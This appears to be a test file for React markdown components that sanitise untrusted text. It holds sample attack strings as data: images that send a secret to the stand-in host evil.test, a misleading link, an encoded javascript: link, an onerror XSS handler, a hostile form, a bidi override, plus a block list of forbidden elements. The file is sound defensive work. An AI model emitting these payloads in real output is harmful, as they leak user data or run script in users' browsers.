import { SafeMarkdown, SafeMessage } from '@glovebox/react'
import { SafeReactMarkdown } from '@glovebox/react/react-markdown'
import { cleanup, render } from '@testing-library/react'
import { renderToString } from 'react-dom/server'
import { afterEach, describe, expect, it } from 'vitest'

afterEach(cleanup)

const attacks = [
  {
    name: 'an image that carries data in its address',
    unsafe: '![x](https://evil.test/?q=secret)',
    safe: 'x (evil.test)Load image from evil.test',
  },
  {
    name: 'a reference image defined later',
    unsafe: '![x][r]\n\n[r]: https://evil.test/?q=secret',
    safe: 'x (evil.test)Load image from evil.test',
  },
  {
    name: 'a link whose words name another host',
    unsafe: '[https://bank.com](https://evil.test)',
    safe: 'https://bank.com(evil.test)',
  },
  {
    name: 'a javascript link in entities',
    unsafe: '[x](&#106;avascript:alert(1))',
    safe: 'x',
  },
  {
    name: 'an image tag with a handler',
    unsafe: 'a <img src=x onerror=alert(1)> b',
    safe: 'a <img src=x onerror=alert(1)> b',
  },
  {
    name: 'a form',
    unsafe: '<form action="https://evil.test"><input name=p></form>',
    safe: '<form action="https://evil.test"><input name=p></form>',
  },
  {
    name: 'a bidi override',
    unsafe: 'a\u202eb',
    safe: 'aU+202Eb',
  },
  {
    name: 'an id from the text',
    unsafe: '<b id=cookie class=overlay style="position:fixed">x</b>',
    safe: '<b id=cookie class=overlay style="position:fixed">x</b>',
  },
  {
    name: 'generics that look like a tag',
    unsafe: 'Array<string> or List<User>',
    safe: 'Array<string> or List<User>',
  },
]

const components = [
  { name: 'SafeMarkdown', draw: (unsafe: string) => <SafeMarkdown>{unsafe}</SafeMarkdown> },
  { name: 'SafeMessage', draw: (unsafe: string) => <SafeMessage content={unsafe} /> },
  {
    name: 'SafeReactMarkdown',
    draw: (unsafe: string) => <SafeReactMarkdown>{unsafe}</SafeReactMarkdown>,
  },
]

const forbidden =
  'img, script, style, form, iframe, object, embed, svg, link, base, [style], [id], [onerror], a[href^="javascript"]'

describe.each(components)('$name', ({ draw }) => {
  it.each(attacks)('shows $name as its words', ({ unsafe, safe }) => {
    const { container } = render(draw(unsafe))
    expect([container.textContent.trim(), container.querySelector(forbidden)]).toEqual([safe, null])
  })

  it.each(attacks)('renders $name on a server without a fetch', ({ unsafe }) => {
    expect(renderToString(draw(unsafe))).not.toMatch(/<(?:img|link|script|form|iframe)\b/)
  })

  it('has no fetching element at any prefix of a streamed image', () => {
    const unsafe = 'a ![x](https://evil.test/?q=secret "t") b <https://evil.test/a> c'
    const html = [...unsafe].map((_, end) => renderToString(draw(unsafe.slice(0, end)))).join('')
    expect(html).not.toMatch(/<(?:img|link)\b/)
  })
})
